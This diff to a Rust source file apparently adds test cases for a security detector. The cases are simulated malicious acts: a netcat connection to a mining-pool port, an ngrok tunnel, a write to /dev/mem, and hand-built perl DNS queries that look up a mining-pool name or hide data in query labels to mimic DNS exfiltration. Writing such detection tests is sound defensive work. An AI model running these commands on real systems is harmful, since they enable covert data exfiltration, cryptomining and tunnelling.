@@ -53,6 +53,18 @@ const TO_A_POOL: &str = "unshare -n bash -c 'SIGN ip link set lo up; \
        busybox nc 203.0.113.9 3333 </dev/null && break; busybox sleep 0.1; done; \
      kill %1 2>/dev/null'";
 
+/// Asks for a name of these labels, where nobody need listen.
+macro_rules! ask {
+    ($labels:literal) => {
+        concat!(
+            "perl -e 'socket(S, 2, 2, 0); send(S, pack(q(n6), 7, 256, 1, 0, 0, 0) . \
+             join(q(), map { chr(length) . $_ } ",
+            $labels,
+            ", q()) . pack(q(n2), 1, 1), 0, pack(q(SnCCCCx8), 2, 53, 127, 0, 5, 3))'"
+        )
+    };
+}
+
 /// In a tree of devices of its own: not every machine has this one.
 const KERNEL_MEMORY: &str = "unshare -m sh -c 'SIGN mount -t tmpfs none /dev; echo > /dev/mem'";
 
@@ -210,4 +222,12 @@ pub(super) const ACTS: &[Act] = &[
         "cp /bin/true FOLDER/ngrok; FOLDER/ngrok http 80",
     ),
     act("Connection to a mining pool", TO_A_POOL),
+    act(
+        "Name of a mining pool looked up",
+        ask!("qw(pool minexmr com)"),
+    ),
+    act(
+        "Data hidden in a name looked up",
+        ask!("(q(data) x 15) x 3, qw(example com)"),
+    ),
 ];
